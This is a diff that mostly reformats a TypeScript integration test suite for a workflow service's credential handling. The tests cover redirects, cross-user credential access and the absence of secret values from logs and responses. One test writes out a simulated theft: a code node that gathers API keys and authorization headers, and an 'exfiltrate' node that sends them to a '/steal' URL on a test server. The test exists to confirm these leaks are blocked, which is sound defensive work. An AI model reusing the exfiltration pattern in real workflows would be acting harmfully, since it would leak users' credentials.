@@ -74,7 +74,11 @@ describe('credentials in runs', () => {
   };
 
   const call = async (method: string, path: string, body?: unknown, key = KEY) => {
-    const res = await fetch(url + path, { method, headers: { 'x-api-key': key, ...(body === undefined ? {} : { 'content-type': 'application/json' }) }, body: body === undefined ? undefined : JSON.stringify(body) });
+    const res = await fetch(url + path, {
+      method,
+      headers: { 'x-api-key': key, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+      body: body === undefined ? undefined : JSON.stringify(body),
+    });
     const text = await res.text();
     answers.push(text);
     return { status: res.status, body: text ? JSON.parse(text) : undefined };
@@ -96,7 +100,17 @@ describe('credentials in runs', () => {
     url = `http://127.0.0.1:${port}`;
     service = spawnCollecting(process.execPath, ['--no-node-snapshot', join(root, 'dist', 'src', 'main.js')], {
       cwd: root,
-      env: { ...process.env, HOST: '127.0.0.1', PORT: String(port), DATA_DIR: dataDir, LOG_LEVEL: 'debug', BOOTSTRAP_API_KEY: KEY, FETCH_ALLOWED_HOSTS: '127.0.0.1', EMBEDDING_THREADS: '1', REDIS_URL: '' },
+      env: {
+        ...process.env,
+        HOST: '127.0.0.1',
+        PORT: String(port),
+        DATA_DIR: dataDir,
+        LOG_LEVEL: 'debug',
+        BOOTSTRAP_API_KEY: KEY,
+        FETCH_ALLOWED_HOSTS: '127.0.0.1',
+        EMBEDDING_THREADS: '1',
+        REDIS_URL: '',
+      },
     });
     await waitForHttp(`${url}/health/ready`, service);
   }, 120_000);
@@ -146,7 +160,9 @@ describe('credentials in runs', () => {
       {
         id: 'leak',
         type: 'code',
-        parameters: { code: 'return { stolen: [nodes.header.response.body.headers["x-api-key"], nodes.bearer.response.body.headers.authorization, nodes.query.response.body.path] };' },
+        parameters: {
+          code: 'return { stolen: [nodes.header.response.body.headers["x-api-key"], nodes.bearer.response.body.headers.authorization, nodes.query.response.body.path] };',
+        },
       },
       node('exfiltrate', `${other.url}/steal?v=\${JSON.stringify(nodes.leak)}`),
     ];
@@ -175,7 +191,12 @@ describe('credentials in runs', () => {
   }, 120_000);
 
   it('drops a header carrying a credential or a secret variable on a redirect to another origin, keeps it on the same origin', async () => {
-    const id = await credential({ name: 'redirected', type: 'header', settings: { name: 'X-Api-Key' }, secrets: { value: SECRETS.header } });
+    const id = await credential({
+      name: 'redirected',
+      type: 'header',
+      settings: { name: 'X-Api-Key' },
+      secrets: { value: SECRETS.header },
+    });
     const headers = '({ "x-token": variables.token, "x-trace": "t-1" })';
     const definition = {
       nodes: [
@@ -206,17 +227,38 @@ describe('credentials in runs', () => {
     const stranger = await call('POST', '/api/v1/users', { name: 'stranger' });
     const strangerKey = stranger.status === 201 ? (stranger.body.apiKey.key as string) : null;
     if (!strangerKey) throw new Error(`could not create a user: ${JSON.stringify(stranger.body)}`);
-    const definition = { nodes: [{ id: 'trigger', type: 'webhook-trigger', parameters: {} }, node('call', `${echo.url}/private`, id)], edges: [{ from: 'trigger', to: 'call' }] };
+    const definition = {
+      nodes: [{ id: 'trigger', type: 'webhook-trigger', parameters: {} }, node('call', `${echo.url}/private`, id)],
+      edges: [{ from: 'trigger', to: 'call' }],
+    };
     const refused = await call('POST', '/api/v1/workflows', { name: 'not mine', definition }, strangerKey);
     expect(refused.status).toBe(400);
-    expect(refused.body.details.fields).toEqual([expect.objectContaining({ field: 'nodes[1].parameters.credential', nodeId: 'call', reason: expect.stringContaining('you may only choose a credential you can use') })]);
+    expect(refused.body.details.fields).toEqual([
+      expect.objectContaining({
+        field: 'nodes[1].parameters.credential',
+        nodeId: 'call',
+        reason: expect.stringContaining('you may only choose a credential you can use'),
+      }),
+    ]);
     // An expression cannot pick a credential either.
     const computed = await call('POST', '/api/v1/workflows', {
       name: 'computed',
-      definition: { ...definition, nodes: [definition.nodes[0], { ...definition.nodes[1], parameterMode: { credential: 'expression' }, parameters: { ...definition.nodes[1].parameters, credential: 'input.id' } }] },
+      definition: {
+        ...definition,
+        nodes: [
+          definition.nodes[0],
+          {
+            ...definition.nodes[1],
+            parameterMode: { credential: 'expression' },
+            parameters: { ...definition.nodes[1].parameters, credential: 'input.id' },
+          },
+        ],
+      },
     });
     expect(computed.status).toBe(400);
-    expect(computed.body.details.fields).toEqual(expect.arrayContaining([expect.objectContaining({ field: expect.stringContaining('parameterMode.credential') })]));
+    expect(computed.body.details.fields).toEqual(
+      expect.arrayContaining([expect.objectContaining({ field: expect.stringContaining('parameterMode.credential') })]),
+    );
     // Shared with them as editor of the workflow but not of the credential: their runs fail, naming it.
     const mine = await call('POST', '/api/v1/workflows', { name: 'mine', definition });
     await call('PUT', `/api/v1/workflows/${mine.body.id}/members/${stranger.body.id}`, { role: 'editor' });
@@ -229,7 +271,8 @@ describe('credentials in runs', () => {
 
   it('leaves no credential value in any answer, log line or metric', async () => {
     answers.push(JSON.stringify((await call('GET', '/api/v1/runs?limit=100')).body));
-    for (const run of (await call('GET', '/api/v1/runs?limit=100')).body.items) answers.push(JSON.stringify((await call('GET', `/api/v1/runs/${run.id}`)).body));
+    for (const run of (await call('GET', '/api/v1/runs?limit=100')).body.items)
+      answers.push(JSON.stringify((await call('GET', `/api/v1/runs/${run.id}`)).body));
     answers.push(JSON.stringify((await call('GET', '/api/v1/credentials?limit=100')).body));
     answers.push(await (await fetch(`${url}/metrics`)).text());
     const everything = [...answers, service.output()].join('\n');
